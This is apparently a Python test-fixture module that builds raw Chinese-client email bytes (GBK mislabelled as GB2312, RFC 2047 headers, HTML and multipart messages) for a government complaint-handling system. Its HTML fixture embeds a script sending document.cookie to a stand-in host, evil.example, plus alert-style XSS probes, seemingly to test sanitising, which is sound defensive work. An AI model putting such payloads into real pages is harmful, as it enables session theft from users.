"""Raw mail as Chinese mail clients really send it (built byte by byte, not with the email package)."""

from __future__ import annotations

import base64

# GBK-only characters (not in GB2312), common in names: 朱镕基's 镕, 堃, 喆, 赟, 珺
GBK_NAME = "王堃"
GBK_TEXT = "我叫王堃,在朱镕基路窗口办事,工作人员喆赟态度很差,珺姐让我投诉。"


def b_word(text: str, charset: str = "gb2312", encoding: str = "gbk") -> str:
    """An RFC 2047 B encoded word labelled `charset` holding `text` encoded as `encoding`."""
    return f"=?{charset}?B?{base64.b64encode(text.encode(encoding)).decode()}?="


def header_block(**headers: str) -> bytes:
    names = {"from_": "From", "message_id": "Message-ID", "in_reply_to": "In-Reply-To", "content_type": "Content-Type"}
    lines = []
    for key, value in headers.items():
        name = names.get(key) or "-".join(p.capitalize() for p in key.split("_"))
        lines.append(f"{name}: {value}")
    return "\r\n".join(lines).encode() + b"\r\n"


def gb2312_mail(message_id: str = "<c1@citizen.example.cn>", subject: str | None = None, **extra: str) -> bytes:
    """A plain-text complaint from a Foxmail-like client: labelled GB2312, really GBK, 8-bit body."""
    head = header_block(
        from_=f"{b_word(GBK_NAME)} <Wang.Kun@Citizen.Example.CN>",
        to="12345@hall.example.gov.cn",
        subject=subject if subject is not None else b_word("投诉:窗口态度差(朱镕基路)"),
        date="Mon, 23 Nov 2026 09:15:00 +0800",
        message_id=message_id,
        mime_version="1.0",
        content_type='text/plain; charset="gb2312"',
        content_transfer_encoding="8bit",
        **extra,
    )
    return head + b"\r\n" + GBK_TEXT.encode("gbk") + b"\r\n"


def html_only_mail() -> bytes:
    html = (
        "<html><head><title>t</title><style>body{color:red}</style>"
        "<script>document.location='http://evil.example/steal?c='+document.cookie</script></head>"
        "<body><p>您好:</p><p>我要咨询<b>社保</b>转移&amp;接续。</p>"
        "<img src=x onerror=alert(1)><script>alert('x')</script>"
        "<ul><li>第一</li><li>第二</li></ul><a href='https://www.gov.cn/'>政府网</a></body></html>"
    )
    return (
        header_block(
            from_="=?utf-8?B?5byg5LiJ?= <zhang@example.cn>",
            subject="=?utf-8?Q?=E5=92=A8=E8=AF=A2?=",
            message_id="<h1@example.cn>",
            content_type="text/html; charset=utf-8",
            content_transfer_encoding="base64",
        )
        + b"\r\n"
        + base64.encodebytes(html.encode())
    )


def multipart_mail(parts: list[tuple[str, str, bytes]], message_id: str = "<m1@example.cn>") -> bytes:
    """multipart/mixed with a text part and (filename, content type, data) attachments, names RFC 2047 in GB2312."""
    boundary = "----=_Part_0_12345"
    out = [
        header_block(
            from_="li@example.cn",
            subject="=?gb2312?B?" + base64.b64encode("附件".encode("gbk")).decode() + "?=",
            message_id=message_id,
            mime_version="1.0",
            content_type=f'multipart/mixed; boundary="{boundary}"',
        ),
        b"\r\n",
        f"--{boundary}\r\nContent-Type: text/plain; charset=GBK\r\nContent-Transfer-Encoding: base64\r\n\r\n".encode(),
        base64.encodebytes("见附件,谢谢。".encode("gbk")),
    ]
    for filename, ctype, data in parts:
        out.append(
            f'--{boundary}\r\nContent-Type: {ctype}; name="{b_word(filename)}"\r\n'
            f'Content-Disposition: attachment; filename="{b_word(filename)}"\r\n'
            "Content-Transfer-Encoding: base64\r\n\r\n".encode()
        )
        out.append(base64.encodebytes(data))
    out.append(f"--{boundary}--\r\n".encode())
    return b"".join(out)
